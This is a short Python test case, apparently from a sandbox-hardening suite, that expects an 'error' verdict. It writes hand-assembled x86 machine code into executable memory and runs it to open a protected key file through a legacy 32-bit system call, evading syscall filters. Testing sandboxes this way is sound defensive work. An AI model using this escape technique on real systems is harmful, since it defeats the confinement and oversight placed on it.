"""Opens the key with a 32-bit system call from machine code of its own.

verdict: error
"""

import ctypes
import mmap

from target import KEY

PATH = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)  # MAP_32BIT
CODE = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)

def address(area):
    return ctypes.addressof(ctypes.c_char.from_buffer(area))

def answer(x):
    PATH.write(KEY.encode() + b"\0")
    where = address(PATH).to_bytes(4, "little")
    # push rbx; mov eax, 5; mov ebx, path; xor ecx, ecx; int 0x80; pop rbx; ret
    CODE.write(b"\x53\xb8\x05\0\0\0\xbb" + where + b"\x31\xc9\xcd\x80\x5b\xc3")
    return ctypes.CFUNCTYPE(ctypes.c_int)(address(CODE))()
